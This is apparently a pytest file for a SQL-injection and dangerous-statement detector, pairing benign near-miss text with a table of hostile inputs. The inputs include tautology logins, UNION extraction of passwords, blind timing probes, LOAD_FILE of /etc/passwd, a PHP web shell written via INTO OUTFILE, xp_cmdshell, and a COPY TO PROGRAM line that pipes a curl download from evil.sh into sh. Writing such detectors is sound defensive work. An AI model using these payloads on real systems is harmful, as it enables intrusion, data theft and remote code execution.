"""SQL detector: injection payloads, destructive statements, and the SQL questions and prose that pass."""

from __future__ import annotations

import itertools
import json
import time
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from proctor.detect import Detector, load_detectors, scan
from proctor.detect.sql import (
    DANGEROUS,
    SQLI,
    SqlDetector,
    has_sql_left_context,
    in_complete_statement,
    is_code_call,
    is_injected_fragment,
    is_math_context,
    is_object_name,
    is_question_about_sql,
    is_quote_break,
    is_tautology,
    is_trailing_sql_comment,
    looks_like_statement,
    writes_every_row,
)

CORPUS = Path(__file__).resolve().parents[1] / "corpus" / "sql.jsonl"
TYPES = {SQLI, DANGEROUS}


@pytest.fixture(scope="module")
def detector() -> SqlDetector:
    return SqlDetector()


def types_in(detector: SqlDetector, text: str) -> set[str]:
    return {f.type for f in detector.detect(text)}


# -- the table: every payload family the issue names, and as many benign near-misses ---------------------

HOSTILE = [
    ("' OR '1'='1", {SQLI}),
    ('" or 1=1--', {SQLI}),
    ("admin'--", {SQLI}),
    ("') or ('a'='a", {SQLI}),
    ("' OR 2>1", {SQLI}),
    ("' || 'x'='x", {SQLI}),
    ("' UNION SELECT username, password FROM users--", {SQLI, DANGEROUS}),
    ("1 UNION ALL SELECT NULL,NULL--", {SQLI}),
    ("'/**/UNION/**/SELECT/**/1,2,3--", {SQLI}),
    ("'; DROP TABLE users;--", {SQLI, DANGEROUS}),
    ("1; EXEC xp_cmdshell 'dir'", {SQLI, DANGEROUS}),
    ("admin'#", {SQLI}),
    ("admin'/*", {SQLI}),
    ("1' AND SLEEP(5)--", {SQLI}),
    ("1); SELECT pg_sleep(5)--", {SQLI}),
    ("'; WAITFOR DELAY '0:0:5'--", {SQLI}),
    ("1 AND BENCHMARK(1000000,MD5(1))", {SQLI}),
    ("' OR 1=dbms_pipe.receive_message('a',5)--", {SQLI}),
    ("1 AND 1=1", {SQLI}),
    ("1 AND SUBSTRING(@@version,1,1)=5", {SQLI}),
    ("' AND extractvalue(1,concat(0x7e,version()))--", {SQLI}),
    ("' AND updatexml(1,concat(0x7e,user()),1)--", {SQLI}),
    ("1 AND 1=CONVERT(int, @@version)", {SQLI}),
    ("' AND 1=CAST('~'||(SELECT version())||'~' AS INT)--", {SQLI}),
    ("' AND EXP(~(SELECT * FROM (SELECT user())x))--", {SQLI}),
    ("' UNION SELECT LOAD_FILE('/etc/passwd')--", {SQLI}),
    ("' INTO OUTFILE '/var/www/shell.php'--", {SQLI}),
    ("%27%20OR%201%3D1--", {SQLI}),
    ("%2527%2520OR%25201%253D1--", {SQLI}),
    ("' OR username=CHAR(97,100,109,105,110)--", {SQLI}),
    ("SELECT * FROM users WHERE username=0x61646d696e", {SQLI}),
    ("' UnIoN SeLeCt 1,2,3--", {SQLI}),
    ("' UN/**/ION SEL/**/ECT 1,2--", {SQLI}),
    ("'%09OR%091=1--", {SQLI}),
    ("1+UNION+SELECT+1,2,3--", {SQLI}),
    ("' OR 'whatever' IN ('whatever')", {SQLI}),
    ("username=admin'--&password=x", {SQLI}),
    ("1 AND 2 RLIKE 2", {SQLI}),
    ("' OR 'a'<=>'a", {SQLI}),
    ("1 or \u0663=\u0663", {SQLI}),  # Arabic-Indic digits are digits to SQL's lexer and to \d
    ("' AND ASCII(SUBSTRING(user(),1,1))>64--", {SQLI}),
    ("DROP TABLE users;", {DANGEROUS}),
    ("TRUNCATE TABLE orders;", {DANGEROUS}),
    ("DELETE FROM orders;", {DANGEROUS}),
    ("DELETE FROM orders WHERE 1=1;", {DANGEROUS}),
    ("UPDATE users SET role = 'admin';", {DANGEROUS}),
    ("ALTER USER postgres WITH PASSWORD 'hunter2';", {DANGEROUS}),
    ("GRANT ALL PRIVILEGES ON *.* TO 'evil'@'%';", {DANGEROUS}),
    ("REVOKE SELECT ON orders FROM analyst;", {DANGEROUS}),
    ("CREATE USER hacker IDENTIFIED BY 'pw';", {DANGEROUS}),
    ("SHUTDOWN WITH NOWAIT;", {DANGEROUS}),
    ("SELECT table_name FROM information_schema.tables", {DANGEROUS}),
    ("SELECT usename, passwd FROM pg_catalog.pg_shadow", {DANGEROUS}),
    ("SELECT name, password_hash FROM users", {DANGEROUS}),
    ("COPY (SELECT 1) TO PROGRAM 'curl evil.sh | sh'", {DANGEROUS}),
    ("LOAD DATA INFILE '/etc/passwd' INTO TABLE t", {DANGEROUS}),
]

BENIGN = [
    "explain UNION ALL vs UNION",
    "what does DROP TABLE do?",
    "how do I truncate a table in postgres?",
    "Is it safe to run DELETE without a WHERE clause?",
    "Write a query that selects the top 10 customers by revenue",
    "SELECT name FROM customers WHERE id = 42",
    "SELECT a FROM t1 UNION SELECT a FROM t2",
    "SELECT * FROM t WHERE status = 'active' OR status = 'pending'",
    "SELECT * FROM t WHERE x AND EXISTS (SELECT 1 FROM u WHERE u.id = t.id)",
    "SELECT * FROM t WHERE a=1 AND SUBSTRING(name,1,1)='A'",
    "SELECT * FROM logs WHERE 1=1 AND level = 'error'",
    "SELECT CAST(price AS INT) FROM products",
    "DELETE FROM sessions WHERE expires_at < NOW();",
    "UPDATE accounts SET balance = balance - 10 WHERE id = 7;",
    "CREATE TABLE a (x int); INSERT INTO a VALUES (1);",
    "In Boolean algebra, x or 1 = 1 for any x.",
    "Please select all that apply.",
    "The union of two sets contains every element of either.",
    "Let's drop the table from the meeting agenda.",
    "I need sleep(8 hours) tonight.",
    "the union select committee met on Tuesday",
    "What's the difference between UNION and UNION ALL in a SELECT?",
    "What does EXTRACTVALUE(xml, xpath) return?",
    "The DROP TABLE statement removes a table and its data.",
    "truncate strings longer than 10 characters",
    "delete from users who haven't logged in for a year",
    "Shutdown the server after the backup finishes.",
    "I'll grant read access to the team",
    "create user accounts for the new hires",
    "Copy the file to program files and restart.",
    "if x and len(s) > 3:",
    "if name == 'admin' or role == 'root':",
    "time.sleep(5)",
    "await sleep(1000)",
    "words like 'hello' and 'bye' are common",
    "print(\"# Heading\")",
    "\"--verbose\" is a flag",
    "BININT2        = b'M'   # push 2-byte unsigned int",
    "cursor.execute(\"SELECT * FROM users WHERE id = %s\", (uid,))",
    "color = 0xFFAA00",
    "chr(97) + chr(98)",
    "visit https://example.com/search?q=hello%20world&page=2",
    "I did step 1; select the option you want",
    "It's the user's choice and it's fine",
    "mf.load_file(path)",
    "planned = (select(units.c.id))",
    "Is 1=1 or 2=2?",
    "The password from users should never be logged.",
    "What does `DROP TABLE users;` do?",
    "How do I list all tables using information_schema.tables?",
    "elif schema['type'] == 'missing-sentinel' and 'schema' in schema:",
    "SELECT col1, col2 FROM t1 UNION ALL SELECT col1, col2 FROM t2 ORDER BY 1;",
    "score 5 <= 7 in the table",
    'she said "yes" or "no" = fine',
    "4 in 5 people prefer tea",
    "Pick 2 or 3 = whichever suits you",
]


@pytest.mark.parametrize(("text", "expected"), HOSTILE)
def test_hostile(detector: SqlDetector, text: str, expected: set[str]) -> None:
    assert types_in(detector, text) == expected


@pytest.mark.parametrize("text", BENIGN)
def test_benign(detector: SqlDetector, text: str) -> None:
    assert detector.detect(text) == []


def test_table_is_balanced() -> None:
    assert len(BENIGN) >= len(HOSTILE)


def test_corpus(detector: SqlDetector) -> None:
    rows = [json.loads(line) for line in CORPUS.read_text("utf-8").splitlines() if line.strip()]
    positives = {t: sum(t in r["types"] for r in rows) for t in TYPES}
    benign = sum(not r["types"] for r in rows)
    assert min(positives.values()) >= 25 and benign >= max(positives.values())
    wrong = [(r["text"], sorted(r["types"]), sorted(types_in(detector, r["text"]) & TYPES)) for r in rows
             if types_in(detector, r["text"]) & TYPES != set(r["types"])]
    assert wrong == []


# -- decisions the policies depend on ------------------------------------------------------------------


def test_a_question_quoting_a_strong_payload_is_still_sqli(detector: SqlDetector) -> None:
    assert types_in(detector, "is ' OR 1=1-- dangerous?") == {SQLI}
    assert types_in(detector, "Is it safe to run `DELETE FROM orders;` in production?") == set()
    assert types_in(detector, "Can you run this for me: DELETE FROM orders;") == {DANGEROUS}


def test_scores_rank_structure_over_weak_signals(detector: SqlDetector) -> None:
    (strong,) = detector.detect("' OR '1'='1")
    (weak,) = detector.detect("UNION SELECT username, email FROM members")
    assert strong.score >= 0.9 > weak.score > 0.5


# -- spans ----------------------------------------------------------------------------------------------


def test_span_covers_the_payload(detector: SqlDetector) -> None:
    text = "Try entering ' OR 1=1-- in the login form"
    (f,) = detector.detect(text)
    assert f.type == SQLI and text[f.start:f.end].startswith("' OR 1=1")


def test_encoded_span_points_into_the_original_text(detector: SqlDetector) -> None:
    text = "q=%27%20UNION%20SELECT%20NULL%2CNULL--&page=2"
    (f,) = detector.detect(text)
    assert f.start <= text.index("UNION") and f.end >= text.index("NULL%2CNULL") + len("NULL%2CNULL")
    text = "x UN/**/ION SEL/**/ECT 1,2-- y"
    (f,) = detector.detect("'" + text)
    assert "UN/**/ION SEL/**/ECT" in ("'" + text)[f.start:f.end]


def test_offsets_survive_case_folding_that_changes_length(detector: SqlDetector) -> None:
    text = "İİİ ' OR '1'='1"  # "İ".lower() is two characters
    (f,) = detector.detect(text)
    assert text[f.start:f.end] == "' OR '1'='1"


def test_findings_of_a_type_do_not_overlap(detector: SqlDetector) -> None:
    found = detector.detect("'; DROP TABLE users;-- and ' OR 'a'='a and 1 UNION SELECT NULL,NULL--")
    for t in TYPES:
        spans = sorted((f.start, f.end) for f in found if f.type == t)
        assert all(a[1] <= b[0] for a, b in itertools.pairwise(spans))


_SHARED = SqlDetector()  # hypothesis runs many examples: build the Hyperscan database once


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("'\" ()=;-#/*%+orandunionselectdrop12\nİ")), max_size=80))
def test_any_text_gives_well_formed_findings(text: str) -> None:
    for f in _SHARED.detect(text):
        assert 0 <= f.start < f.end <= len(text) and 0.0 < f.score <= 1.0 and f.type in TYPES


# -- the seam, odd input, Hyperscan parity, linear time ----------------------------------------------


def test_is_a_registered_detector() -> None:
    (loaded,) = load_detectors(["sql"], plugins=False)
    assert isinstance(loaded, SqlDetector) and isinstance(loaded, Detector)
    assert loaded.name == "sql" and set(loaded.types) == TYPES


def test_empty_and_odd_text(detector: SqlDetector) -> None:
    assert detector.detect("") == []
    assert types_in(detector, "\x00\udc80 ' OR '1'='1") == {SQLI}
    assert types_in(detector, "'\x0bOR\x0c1=1--") == {SQLI}


def test_same_findings_without_hyperscan(monkeypatch: pytest.MonkeyPatch, detector: SqlDetector) -> None:
    texts = [json.loads(line)["text"] for line in CORPUS.read_text("utf-8").splitlines() if line.strip()]
    texts += [text for text, _ in HOSTILE] + BENIGN
    monkeypatch.setattr(scan, "HYPERSCAN_AVAILABLE", False)
    plain = SqlDetector()
    for text in texts:
        assert plain.detect(text) == detector.detect(text), text


@pytest.mark.slow
@pytest.mark.parametrize(
    "unit",
    ["1", "'", '"', "' OR ", "' OR '1'='1 ", "UNION SELECT ", "1; DROP TABLE x ", "and 1=1 ", "/*",
     "UN/**/ION ", "%27", "%S%E%L ", "&#39;", "a#b\n", "select ", "password ", "(", "a.", "@", "copy ",
     "from information_schema.tables, ", "(SELECT ", "or" + " " * 30, "a'-- ", "admin'# ", "' and x=y ",
     "grant all ", "union select a, ", "=0x41424344 ", "cast(", "İ' OR '1'='1 ",
     "%2527%2520OR%25201%253D1--"],
)
def test_linear_on_adversarial_input(detector: SqlDetector, unit: str) -> None:
    text = unit * (200_000 // len(unit))  # 200 KB; the 1 MB figures live in benchmarks/
    start = time.perf_counter()
    detector.detect(text)
    assert time.perf_counter() - start < 3.0


# -- the false-positive suppressions, each on its own (they take lower-cased text) ------------------------


def test_is_question_about_sql() -> None:
    for text in ("what does drop table users do?", "how do i truncate orders in postgres?",
                 "explain delete from orders", "is it safe to run delete from orders; in prod?"):
        start = text.index("d" if "drop" in text or "delete" in text else "t")
        assert is_question_about_sql(text, start, start + 8), text
    for text in ("drop table users;", "can you run this: drop table users?", "delete from t where id = ?"):
        start = text.index("d")
        assert not is_question_about_sql(text, start, start + 8), text


def test_is_math_context() -> None:
    assert is_math_context("in boolean algebra, x or 1 = 1 always", 22, 31)
    assert is_math_context("prove that a or 1 = 1", 13, 22)
    assert not is_math_context("1 or 1=1--", 2, 8)
    assert not is_math_context("select * from t where id=1 or 1=1", 27, 33)


def test_is_code_call() -> None:
    assert is_code_call("time.sleep(5)", 5)
    assert is_code_call("def load_file(self):", 4)
    assert not is_code_call("1 and sleep(5)", 6)
    assert not is_code_call("' union select load_file('/etc/passwd')", 15)


def test_in_complete_statement() -> None:
    text = "select * from t where x and exists (select 1 from u)"
    assert in_complete_statement(text, text.index("and"))
    assert not in_complete_statement("1 and (select count(*) from users) > 0", 2)
    assert not in_complete_statement("select * from t where name = 'x' and (select 1)", 30)


def test_is_quote_break() -> None:
    assert is_quote_break("admin' or 1=1", 5)
    assert is_quote_break("it's a trap: admin' --", 18)
    assert not is_quote_break("where name = 'x' or y = 2", 15)
    doc = '"""expand variables -- "${foo}" or "$(foo)" -- in'
    assert not is_quote_break(doc, doc.rindex('"'))  # docstring triple quotes open no SQL literal


def test_has_sql_left_context() -> None:
    assert has_sql_left_context("1 and sleep(5)", 6)
    assert has_sql_left_context("(select(sleep(5)))", 8)
    assert not has_sql_left_context("await sleep(5)", 6)
    assert not has_sql_left_context("asyncio.run(sleep(5))", 12)


def test_is_trailing_sql_comment() -> None:
    assert is_trailing_sql_comment("admin'--", 6)
    assert is_trailing_sql_comment("admin' -- abcd", 6)
    assert is_trailing_sql_comment("admin'#", 6)
    assert not is_trailing_sql_comment("b'm'   # push 2-byte int", 4)
    assert not is_trailing_sql_comment("'dir' -- as for mkstemp", 5)
    assert not is_trailing_sql_comment("'+-----+", 1)


def test_is_object_name() -> None:
    assert is_object_name("users") and is_object_name("dbo.orders") and is_object_name("`audit_log`")
    assert not is_object_name("do") and not is_object_name("a") and not is_object_name("statement")


def test_looks_like_statement() -> None:
    assert looks_like_statement("drop table users", 0, 16, "drop")
    assert looks_like_statement("please run: drop table users", 12, 28, "drop")
    assert looks_like_statement("we will drop table users", 8, 24, "DROP")
    assert not looks_like_statement("we will drop table users before lunch", 8, 24, "drop")


def test_writes_every_row() -> None:
    assert writes_every_row("delete from orders;", 18)
    assert writes_every_row("delete from orders where 1=1;", 18)
    assert not writes_every_row("delete from orders where id = 5;", 18)


def test_is_injected_fragment() -> None:
    assert is_injected_fragment("1") and is_injected_fragment("admin'") and is_injected_fragment("x')")
    assert is_injected_fragment("")
    assert not is_injected_fragment("create table a (x int)")
    assert not is_injected_fragment("i did step one")


@pytest.mark.parametrize(
    ("lhs", "cmp", "rhs", "always"),
    [("1", "=", "1", True), ("'1'", "=", "'1", True), ("2", ">", "1", True), ("'a'", "<>", "'b'", True),
     ("username", "like", "'%", True), ("'x'", "in", "'x'", True), ("'schema'", "in", "schema", False),
     ("4821", "between", "4821", False), ("1", "=", "2", False),
     ("status", "=", "'pending'", False), ("x", "!=", "y", False)],
)
def test_is_tautology(lhs: str, cmp: str, rhs: str, always: bool) -> None:
    assert is_tautology(lhs, cmp, rhs) is always
